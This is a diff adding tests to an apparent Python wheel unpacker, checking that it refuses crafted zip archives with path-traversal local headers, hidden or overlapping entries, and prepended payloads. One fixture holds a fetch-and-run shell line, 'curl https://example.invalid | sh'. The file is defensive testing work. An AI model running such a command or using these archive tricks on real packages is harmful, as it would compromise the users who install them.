@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import io
 import os
 import stat
 import struct
@@ -339,3 +340,238 @@ def test_unreadable_record_refused(cache: Cache, src: Path) -> None:
     with pytest.raises(UnsafeArchiveError, match="RECORD.*unreadable"):
         unpack_wheel(wheel, cache=cache)
     assert cache_leftovers(cache) == []
+
+
+# --- the layout: local headers, prepended and unlisted bytes (zip_layout_problem) ----------
+
+
+def central_entries(data: bytes) -> dict[str, int]:
+    """Name → offset of its central directory entry."""
+    zf = zipfile.ZipFile(io.BytesIO(data))
+    pos, found = zf.start_dir, {}
+    for _ in zf.infolist():
+        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, pos + 28)
+        found[data[pos + 46 : pos + 46 + name_len].decode()] = pos
+        pos += 46 + name_len + extra_len + comment_len
+    return found
+
+
+def patch_local_header(path: Path, member: str, *, name: bytes | None = None, method: int | None = None,
+                       compressed_size: int | None = None, flags: int | None = None) -> None:
+    """Change fields of ``member``'s local header only (its central entry stays as it was)."""
+    data = bytearray(path.read_bytes())
+    at = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(member).header_offset
+    if name is not None:
+        assert len(name) == len(member.encode()), "keep the length: offsets must not move"
+        data[at + 30 : at + 30 + len(name)] = name
+    if flags is not None:
+        struct.pack_into("<H", data, at + 6, flags)
+    if method is not None:
+        struct.pack_into("<H", data, at + 8, method)
+    if compressed_size is not None:
+        struct.pack_into("<I", data, at + 18, compressed_size)
+    path.write_bytes(bytes(data))
+
+
+def drop_central_entry(path: Path, member: str) -> None:
+    """Remove ``member`` from the central directory, leaving its local header and data."""
+    data = bytearray(path.read_bytes())
+    pos = central_entries(bytes(data))[member]
+    name_len, extra_len, comment_len = struct.unpack_from("<3H", data, pos + 28)
+    length = 46 + name_len + extra_len + comment_len
+    del data[pos : pos + length]
+    eocd = len(data) - 22
+    _sig, _disk, _cd_disk, n_disk, n_total, cd_size, cd_offset, comment = struct.unpack_from("<4s4H2LH", data, eocd)
+    struct.pack_into("<4s4H2LH", data, eocd, _sig, _disk, _cd_disk, n_disk - 1, n_total - 1, cd_size - length, cd_offset, comment)
+    path.write_bytes(bytes(data))
+
+
+def refused(wheel: Path, cache: Cache, *fragments: str) -> str:
+    """Unpack ``wheel``, expect a refusal naming the file and ``fragments``; nothing cached."""
+    with pytest.raises(UnsafeArchiveError) as err:
+        unpack_wheel(wheel, cache=cache)
+    message = err.value.message
+    assert message.startswith(f"Refusing to unpack ") and wheel.name in message, message
+    for fragment in fragments:
+        assert fragment in message, message
+    assert cache_leftovers(cache) == []
+    return message
+
+
+def test_local_header_naming_another_file_is_refused(cache: Cache, src: Path, tmp_path: Path) -> None:
+    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/ok.py": "print('ok')\n"})
+    patch_local_header(wheel, "demo/ok.py", name=b"../evil.py")
+    # zipfile itself would only notice when opening the member (some versions not at all).
+    assert zipfile.ZipFile(wheel).namelist()[1] == "demo/ok.py"
+    refused(wheel, cache, "member `demo/ok.py`", "local header names another file, `../evil.py`")
+    assert not list(tmp_path.rglob("evil.py"))
+
+
+def test_local_header_name_that_is_not_utf8_is_refused(cache: Cache, src: Path) -> None:
+    # The central entry says UTF-8; zipfile would raise UnicodeDecodeError on open.
+    zi = info("demo/caf\u00e9.py")
+    wheel = make_wheel(src, files={"demo/__init__.py": ""}, extra=[(zi, b"x = 1\n")])
+    assert zipfile.ZipFile(wheel).getinfo("demo/caf\u00e9.py").flag_bits & 0x800
+    patch_local_header(wheel, "demo/caf\u00e9.py", name=b"demo/caf\xff\xfe.py")
+    refused(wheel, cache, "local header names another file")
+
+
+def test_local_header_with_another_compression_method_is_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src, files={"demo/__init__.py": "VALUE = 1\n" * 50})
+    patch_local_header(wheel, "demo/__init__.py", method=zipfile.ZIP_STORED)
+    refused(wheel, cache, "`demo/__init__.py`", "compression method 0, the central directory 8")
+
+
+def test_local_header_with_other_sizes_is_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src, files={"demo/__init__.py": "VALUE = 1\n" * 50})
+    patch_local_header(wheel, "demo/__init__.py", compressed_size=1)
+    refused(wheel, cache, "`demo/__init__.py`", "its local header says 500 bytes (1 compressed")
+
+
+def test_local_header_disagreeing_on_encryption_is_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src)
+    patch_local_header(wheel, "demo/__init__.py", flags=0x1)
+    refused(wheel, cache, "disagree on encryption")
+
+
+def test_prepended_payload_is_refused(cache: Cache, src: Path) -> None:
+    """`cat stub.sh wheel > new.whl`: zipfile shifts every offset and reads it happily."""
+    wheel = make_wheel(src)
+    stub = b"#!/bin/sh\ncurl https://example.invalid | sh\nexit 0\n"
+    wheel.write_bytes(stub + wheel.read_bytes())
+    assert zipfile.ZipFile(wheel).testzip() is None  # a valid zip to zipfile
+    refused(wheel, cache, f"{len(stub)} bytes before the first entry")
+
+
+def test_prepended_payload_with_adjusted_offsets_is_refused(cache: Cache, src: Path) -> None:
+    """`zip -A` style: the offsets count the stub, so the members do not start at byte 0."""
+    good = make_wheel(src)
+    stub = b"MZ" + bytes(98)
+    wheel = src / "demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(good) as zf:
+        members = [(i, zf.read(i)) for i in zf.infolist()]
+    wheel.write_bytes(stub)
+    with zipfile.ZipFile(wheel, "a") as zf:
+        for zi, data in members:
+            zf.writestr(zi, data)
+    assert zipfile.ZipFile(wheel).infolist()[0].header_offset == len(stub)
+    refused(wheel, cache, "100 bytes before the first entry")
+
+
+def test_entry_missing_from_the_central_directory_is_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/hidden.py": "import os\n", "demo/z.py": ""})
+    drop_central_entry(wheel, "demo/hidden.py")
+    assert "demo/hidden.py" not in zipfile.ZipFile(wheel).namelist()
+    # The hidden entry sits before demo/z.py; a streaming reader would unpack it.
+    refused(wheel, cache, "member `demo/z.py`", "bytes before it that the central directory does not list")
+
+
+def test_unlisted_bytes_after_the_last_entry_are_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src, files={"demo/__init__.py": ""},
+                       extra=[(info("demo-1.0.dist-info/RECORD.jws"), b"{}")])
+    drop_central_entry(wheel, "demo-1.0.dist-info/RECORD.jws")  # the last entry
+    refused(wheel, cache, "bytes after the last entry that the central directory does not list")
+
+
+def test_overlapping_entries_are_refused(cache: Cache, src: Path) -> None:
+    """Two central entries sharing bytes: the trick behind kilobyte-sized zip bombs."""
+    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/a.py": "A = 1\n"})
+    data = bytearray(wheel.read_bytes())
+    entries = central_entries(bytes(data))
+    first = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/__init__.py").header_offset
+    struct.pack_into("<I", data, entries["demo/a.py"] + 42, first)
+    wheel.write_bytes(bytes(data))
+    refused(wheel, cache, "overlaps the entry before it")
+
+
+def test_bytes_after_the_end_record_are_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src)
+    wheel.write_bytes(wheel.read_bytes() + b"PK\x03\x04 trailing payload")
+    refused(wheel, cache, "bytes after the end of the archive")
+
+
+def test_end_record_count_must_match(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src)
+    data = bytearray(wheel.read_bytes())
+    struct.pack_into("<H", data, len(data) - 22 + 10, 99)
+    wheel.write_bytes(bytes(data))
+    refused(wheel, cache, "counts 99 entries")
+
+
+class _Unseekable(io.RawIOBase):
+    """A write-only stream: zipfile then writes data descriptors (flag bit 3)."""
+
+    def __init__(self) -> None:
+        self.data = bytearray()
+
+    def writable(self) -> bool:
+        return True
+
+    def write(self, b: bytes) -> int:  # type: ignore[override]
+        self.data += b
+        return len(b)
+
+
+def test_data_descriptors_and_zip64_local_headers_are_accepted(cache: Cache, src: Path) -> None:
+    """Layouts real tools write: streamed members (bit 3 + descriptor), zip64 local sizes."""
+    good = make_wheel(src, files={"demo/__init__.py": "VALUE = 1\n", "demo/b.py": "B = 2\n" * 100})
+    with zipfile.ZipFile(good) as zf:
+        members = [(i, zf.read(i)) for i in zf.infolist()]
+    out = _Unseekable()
+    with zipfile.ZipFile(out, "w") as zf:
+        for zi, data in members:
+            with zf.open(zi, "w") as dst:
+                dst.write(data)
+    streamed = src / "streamed" / good.name
+    streamed.parent.mkdir()
+    streamed.write_bytes(bytes(out.data))
+    assert all(i.flag_bits & 0x8 for i in zipfile.ZipFile(streamed).infolist())
+    assert unpack_wheel(streamed, cache=cache).name == "demo"
+    zip64 = src / "zip64" / good.name
+    zip64.parent.mkdir()
+    with zipfile.ZipFile(zip64, "w") as zf:
+        for zi, data in members:
+            with zf.open(zi, "w", force_zip64=True) as dst:
+                dst.write(data)
+    head = zip64.read_bytes()[:30]
+    assert struct.unpack_from("<2I", head, 18) == (0xFFFFFFFF, 0xFFFFFFFF)  # sizes in the extra field
+    assert unpack_wheel(zip64, cache=cache).name == "demo"
+
+
+def test_overlong_names_are_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src, extra=[(info("demo/" + "x" * 256 + ".py"), b"")])
+    refused(wheel, cache, "a path component longer than 255 bytes")
+    deep = "demo/" + "/".join(["d" * 200] * 6) + "/x.py"
+    wheel = make_wheel(src, extra=[(info(deep), b"")])
+    refused(wheel, cache, "name longer than 1024 bytes")
+    assert check_member_name("demo/" + "é" * 126 + ".py") is None  # 255 bytes in UTF-8
+    assert check_member_name("demo/" + "é" * 127 + ".py") is not None
+
+
+def with_zip64_end_records(path: Path, *, record_offset_error: int = 0) -> None:
+    """Rewrite the end of ``path`` as zip64 writers do: zip64 record, locator, placeholder EOCD."""
+    data = path.read_bytes()
+    eocd = len(data) - 22
+    _sig, _disk, _cd_disk, n_disk, n_total, cd_size, cd_offset, _comment = struct.unpack_from("<4s4H2LH", data, eocd)
+    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, n_disk, n_total, cd_size, cd_offset)
+    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, eocd + record_offset_error, 1)
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
+    path.write_bytes(data[:eocd] + record + locator + end)
+
+
+def test_archive_comment_and_zip64_end_records_are_accepted(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src)
+    with zipfile.ZipFile(wheel, "a") as zf:
+        zf.comment = b"built by a tool that signs its archives"
+    assert unpack_wheel(wheel, cache=cache).name == "demo"
+    (src / "zip64").mkdir()
+    zip64 = make_wheel(src / "zip64", files={"demo/__init__.py": "Z = 64\n"})
+    with_zip64_end_records(zip64)
+    assert zipfile.ZipFile(zip64).namelist()[0] == "demo/__init__.py"
+    assert unpack_wheel(zip64, cache=cache).name == "demo"
+
+
+def test_inconsistent_zip64_end_records_are_refused(cache: Cache, src: Path) -> None:
+    wheel = make_wheel(src)
+    with_zip64_end_records(wheel, record_offset_error=8)
+    refused(wheel, cache, "inconsistent zip64 end of central directory records")
